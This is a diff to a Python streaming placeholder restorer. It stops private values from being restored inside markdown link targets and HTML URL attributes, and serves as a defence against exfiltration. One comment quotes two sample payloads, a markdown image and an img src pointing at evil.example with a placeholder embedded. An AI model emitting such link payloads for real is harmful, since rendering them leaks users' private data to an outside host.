@@ -47,6 +47,19 @@ def _full_for(limit: int) -> re.Pattern[str]:
 _FULL = _full_for(SLACK)
 _PARTIAL = re.compile(_INNER + r"*\Z")
 _URL_WORD = re.compile(r"://|^[(<\"'*_\[]*(?:www\.|//)|(?:src|href|srcset|action)\s*=|mailto:", re.I)
+# What opens and closes the URL contexts that span words: a markdown link or image target "](" (to its
+# closing parenthesis: balanced pairs and backslash escapes inside do not close it, nor does anything
+# inside an <...> destination; one line break may come before the destination), and the quoted value
+# of a src/href/srcset/action attribute (to its closing quote). Judging the target by the last "(" and
+# ")" of the line restored into "![x](//evil.example/(a)[CPF_1])", and whitespace ended an attribute
+# value, so '<img src="https://evil.example/?a= [CPF_1]">' was restored: both fetch the value.
+_CTX = re.compile(r"""\n[ \t]*\n|\n|\\.|\]\(|[()<>]|=\s*["']|["']""")
+_OPEN = re.compile(r"""\]\(|=\s*["']""")
+"""The part of ``_CTX`` that matters outside both contexts (most text: searched for at C speed)."""
+_ATTR = re.compile(r"(?<![A-Za-z0-9_])(?:src|href|srcset|action)\s*\Z", re.I)
+"""Before the ``=`` of an attribute whose value is a URL."""
+_CTX_TAIL = 16
+"""Characters of the text folded before kept to see an opening split across pieces (``]`` + ``(``)."""
 
 
 def _last_space(s: str) -> int:
@@ -63,7 +76,8 @@ class StreamRestorer:
     however the text was split.
     """
 
-    __slots__ = ("pmap", "allow_urls", "json_string", "_held", "_limit", "_full", "_md", "_word", "_prev",
+    __slots__ = ("pmap", "allow_urls", "json_string", "_held", "_limit", "_full", "_md", "_angle", "_fresh",
+                 "_attr", "_word", "_tail",
                  "_pending", "_pending_len", "held_max")
 
     def __init__(self, pmap: PlaceholderMap, *, allow_urls: bool = False, json_string: bool = False):
@@ -75,9 +89,12 @@ class StreamRestorer:
         self._held = ""
         self._limit = 0
         self._full = _FULL
-        self._md = False   # inside an unclosed markdown link target "](" on the current line
+        self._md = -1      # inside a markdown link target "](": its open parentheses; -1: outside one
+        self._angle = False  # in that target, inside an <...> destination
+        self._fresh = False  # in that target, nothing but whitespace yet (a line break may still come)
+        self._attr = ""    # inside a quoted src/href/srcset/action attribute value: its quote
         self._word = ""    # released text since the last whitespace (capped at WORD_CAP + a piece)
-        self._prev = ""    # the last character released, to see a "](" split across pieces
+        self._tail = ""    # the end of the text folded before (see _CTX_TAIL)
         self._pending: list[str] = []  # released text not yet folded into the three above
         self._pending_len = 0
         self.held_max = 0
@@ -157,26 +174,58 @@ class StreamRestorer:
         self._pending_len = 0
         if not s:
             return
-        p = self._prev + s
-        nl = p.rfind("\n")
-        if nl >= 0:
-            self._md = False
-            p = p[nl + 1:]
-        o, c = p.rfind("]("), p.rfind(")")
-        if o > c:
-            self._md = True
-        elif c > o:
-            self._md = False
+        p = self._tail + s
+        skip = last = len(self._tail)
+        pos = 0
+        while True:
+            m = (_CTX if self._md >= 0 or self._attr else _OPEN).search(p, pos)
+            if m is None:
+                break
+            pos = m.end()
+            if pos <= skip:
+                continue  # (taken when it was folded)
+            if self._fresh and not p[last:m.start()].isspace() and last < m.start():
+                self._fresh = False
+            last = m.end()
+            t = m.group()
+            c = t[0]
+            if c == "\n":
+                if len(t) > 1:  # a blank line ends paragraphs: links and HTML attributes alike
+                    self._md, self._attr = -1, ""
+                elif self._md >= 0 and not self._fresh:
+                    self._md = -1  # a destination holds no line break
+                continue
+            fresh, self._fresh = self._fresh, False
+            if self._attr:
+                if t[-1] == self._attr:  # (HTML has no backslash escapes: \" closes too)
+                    self._attr = ""
+            elif c == "=":
+                if _ATTR.search(p, max(0, m.start() - 32), m.start()):
+                    self._attr = t[-1]
+            elif self._md < 0:
+                if t == "](":
+                    self._md, self._angle, self._fresh = 0, False, True
+            elif self._angle:
+                if c == ">":
+                    self._angle = False  # (what follows, a title, ends at the closing parenthesis)
+            elif c == "<":
+                self._angle = fresh
+            elif c == "(" or t == "](":
+                self._md += 1
+            elif c == ")":
+                self._md -= 1  # (-1 once the target's own parenthesis closed)
+        if self._fresh and last < len(p) and not p[last:].isspace():
+            self._fresh = False
+        self._tail = p[-_CTX_TAIL:]
         ws = _last_space(s)
         if ws >= 0:
             self._word = s[ws + 1:][:WORD_CAP + 1]
         elif len(self._word) <= WORD_CAP:
             self._word += s[:WORD_CAP + 1]
-        self._prev = s[-1]
 
     def _in_url(self) -> bool:
         self._fold()
-        return self._md or len(self._word) > WORD_CAP or _URL_WORD.search(self._word) is not None
+        return self._md >= 0 or self._attr != "" or len(self._word) > WORD_CAP or _URL_WORD.search(self._word) is not None
 
 
 def restore_text(text: str, pmap: PlaceholderMap | None, *, allow_urls: bool = False) -> str:
